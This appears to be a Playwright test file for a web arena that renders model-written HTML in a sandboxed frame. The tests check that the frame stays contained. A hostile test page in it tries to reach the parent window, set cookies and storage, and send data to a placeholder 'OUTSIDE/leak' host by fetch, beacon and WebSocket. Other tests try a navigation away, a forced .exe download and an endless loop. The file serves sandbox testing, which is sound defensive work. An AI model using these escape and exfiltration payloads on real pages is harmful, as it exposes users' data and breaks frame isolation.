"""A page as an answer, in a browser: it is put together, works, and stays in its frame."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect
from result_steps import PAGE, Contexts, Endpoints, opened, preview, run, script_all
from served import Served
from steps import battle, vote, write_code

# Each attempt leaves a line: what it got, or that it was refused.
ATTEMPTS = """```html
<ul id="log"></ul>
<img src="OUTSIDE/leak.png"><img src="/health">
<link rel="stylesheet" href="OUTSIDE/leak.css">
<iframe src="/status" id="inner"></iframe><iframe src="OUTSIDE/"></iframe>
<form id="form" action="/leak" method="post" target="_top"><input name="a" value="1"></form>
<a id="save" href="data:text/plain,x" download="x.exe">save</a>
<a id="up" href="/status" target="_top">up</a>
<script>
const say = (name, words) => {
  const line = document.createElement("li");
  line.textContent = name + ": " + words;
  document.getElementById("log").append(line);
};
const tries = {
  parent: () => parent.document.title,
  frame: () => frameElement.id,
  top: () => { top.location = "/status"; return "went"; },
  storage: () => { localStorage.setItem("a", "1"); return "stored"; },
  session: () => { sessionStorage.setItem("a", "1"); return "stored"; },
  cookie: () => { document.cookie = "a=1"; return "cookie " + document.cookie; },
  window: () => window.open("/status") ? "opened" : Promise.reject("null"),
  fetch: () => fetch("/health").then((answer) => answer.text()),
  outside: () => fetch("OUTSIDE/leak", { mode: "no-cors" }).then(() => "sent"),
  socket: () => new Promise((done, failed) => {
    const socket = new WebSocket("OUTSIDE/socket");
    socket.onopen = () => done("open"); socket.onerror = () => failed("error");
  }),
  worker: () => new Promise((done, failed) => {
    const worker = new Worker("data:text/javascript,postMessage(1)");
    worker.onmessage = () => done("runs"); worker.onerror = () => failed("error");
  }),
  code: () => new Function("return 'compiled'")(),
  calls: () => new RTCPeerConnection() && "calls",
  database: () => indexedDB.open("a") && "opened",
};
navigator.sendBeacon("/leak", "x");
navigator.sendBeacon("OUTSIDE/leak", "x");
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { say(name, "GOT " + await attempt()); } catch (error) { say(name, "refused"); }
  }
  parent.postMessage({ type: "reload" }, "*");
  parent.postMessage("supports-zerogpu-headers", "*");
  for (const id of ["form", "save", "up"]) {
    const element = document.getElementById(id);
    id === "form" ? element.submit() : element.click();
  }
  say("end", "reached");
})();
</script>
```"""
NAMES = re.findall(r"^  (\w+): \(\)", ATTEMPTS, re.MULTILINE)


class _Recording(BaseHTTPRequestHandler):
    """Remembers every request, and allows everybody everything."""

    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - the name that the base class looks for

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def outside() -> Iterator[ThreadingHTTPServer]:
    """Another server, as a page's author would have one to send things to."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recording)
    server.asked = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(("locale", "words"), [("en-US", "Preview"), ("zh-CN", "预览")])
def test_a_page_is_put_together_and_works(
    app: Served, endpoints: Endpoints, new_context: Contexts, locale: str, words: str
) -> None:
    script_all(endpoints, PAGE)
    page = opened(app, new_context, locale=locale)
    battle(page)
    expect(page.locator("#slot-a-run")).to_have_text(words)
    expect(page.locator("#slot-a-stdin")).to_have_count(0)
    frame = preview(page)
    # Not by the mouse: where a frame is drawn, the browser tells its input router late.
    for _ in range(2):
        frame.locator("#more").dispatch_event("click")
    expect(frame.locator("#n")).to_have_text("2")
    colour = frame.locator("#title").evaluate("title => getComputedStyle(title).color")
    assert colour == "rgb(1, 2, 3)"
    # An edited page takes the place of the one before; a vote leaves it where it is.
    write_code(page, "a", "<h2>edited</h2>")
    run(page)
    expect(frame.locator("h2")).to_have_text("edited")
    vote(page)
    expect(frame.locator("h2")).to_have_text("edited")


def test_a_page_reaches_nothing_outside_its_frame(
    page: Page, endpoints: Endpoints, outside: ThreadingHTTPServer
) -> None:
    script_all(endpoints, ATTEMPTS.replace("OUTSIDE", f"http://127.0.0.1:{outside.server_port}"))
    battle(page)
    address, pages, cookies = page.url, len(page.context.pages), page.context.cookies()
    downloads: list[object] = []
    answered: list[str] = []
    page.on("download", lambda one: downloads.append(one.url))
    page.on("response", lambda response: answered.append(response.url))
    page.evaluate("window.mark = 'same page'")
    frame = preview(page)
    expect(frame.locator("#log")).to_contain_text("end: reached", timeout=20_000)
    lines = dict(line.split(": ", 1) for line in frame.locator("#log li").all_inner_texts())
    assert lines.pop("end") == "reached"
    assert lines == dict.fromkeys(NAMES, "refused")
    assert len(NAMES) == 14
    page.wait_for_timeout(500)
    assert page.url == address
    assert page.evaluate("window.mark") == "same page"
    assert page.evaluate("localStorage.getItem('a')") is None
    assert page.context.cookies() == cookies
    assert len(page.context.pages) == pages
    assert downloads == outside.asked == []  # type: ignore[attr-defined]
    assert [url for url in answered if re.search("health|status|leak", url)] == []
    vote(page)


@pytest.mark.parametrize("target", ["/health", "http://192.0.2.1/leak", "data:text/html,left"])
def test_a_page_cannot_leave_for_another_address(
    page: Page, endpoints: Endpoints, target: str
) -> None:
    script_all(endpoints, f"```html\n<p>before</p><script>location = '{target}'</script>\n```")
    asked: list[str] = []
    battle(page)
    page.on("requestfinished", lambda request: asked.append(request.url))
    preview(page)
    page.wait_for_timeout(1500)
    assert [url for url in asked if "health" in url or "192.0.2.1" in url] == []
    texts = [frame.evaluate("document.body?.innerText ?? ''") for frame in page.frames[1:]]
    assert not any("contestants" in text or text == "left" for text in texts)


def test_a_page_that_never_rests_leaves_the_arena_usable(page: Page, endpoints: Endpoints) -> None:
    script_all(endpoints, "```html\n<p>busy</p><script>while (true) {}</script>\n```")
    battle(page)
    preview(page)
    page.wait_for_timeout(500)
    vote(page)
    page.click("#arena-new")
    expect(page.locator("#arena-hero")).to_be_visible()
